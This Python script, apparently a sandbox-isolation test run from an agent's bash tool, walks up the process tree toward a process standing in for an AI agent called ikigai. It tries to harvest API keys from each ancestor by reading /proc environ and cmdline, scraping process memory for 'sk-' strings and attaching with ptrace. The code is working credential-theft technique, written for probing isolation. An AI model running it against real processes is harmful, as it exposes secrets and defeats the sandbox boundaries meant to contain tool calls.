"""Run by a ``bash`` tool call: try every way up the process tree to read ikigai's keys.

Usage: ``python probe_keys.py HOLDER_PID``. Walks from this process up to
HOLDER_PID (the process playing ikigai) and, for each ancestor, reads
``environ`` and ``cmdline``, scans ``mem`` through ``maps`` for ``sk-`` strings,
and tries ``ptrace`` attach. Prints one line per attempt; never raises.
"""

from __future__ import annotations

import ctypes
import os
import re
import sys

PTRACE_ATTACH = 16
PTRACE_DETACH = 17
KEYLIKE = re.compile(rb"sk-[A-Za-z0-9-]{8,}")


def parent_of(pid: int) -> int:
    with open(f"/proc/{pid}/stat", "rb") as handle:
        text = handle.read().decode("ascii", "replace")
    return int(text[text.rfind(")") + 2 :].split()[1])


def attempt(pid: int, what: str, action: object) -> None:
    try:
        result = action()  # type: ignore[operator]
    except OSError as error:
        print(f"pid {pid} {what}: denied ({error.strerror})")
    else:
        print(f"pid {pid} {what}: {result}")


def read_text(path: str) -> str:
    with open(path, "rb") as handle:
        return handle.read().replace(b"\0", b" ").decode("utf-8", "replace")


def scan_memory(pid: int) -> str:
    found: set[bytes] = set()
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            fields = line.split()
            if "r" not in fields[1] or (len(fields) > 5 and fields[5] in ("[vvar]", "[vsyscall]")):
                continue
            start, end = (int(part, 16) for part in fields[0].split("-"))
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, OverflowError, ValueError):
                continue
            found.update(KEYLIKE.findall(data))
    return "found " + " ".join(sorted(item.decode() for item in found)) if found else "no key"


def try_ptrace(pid: int) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.waitpid(pid, 0)
    libc.ptrace(PTRACE_DETACH, pid, None, None)
    return "attached"


def main() -> None:
    holder = int(sys.argv[1])
    pid = os.getpid()
    while pid != holder and pid > 1:
        pid = parent_of(pid)
        attempt(pid, "environ", lambda p=pid: read_text(f"/proc/{p}/environ"))
        attempt(pid, "cmdline", lambda p=pid: read_text(f"/proc/{p}/cmdline"))
        attempt(pid, "mem", lambda p=pid: scan_memory(p))
        attempt(pid, "ptrace", lambda p=pid: try_ptrace(p))


if __name__ == "__main__":
    main()
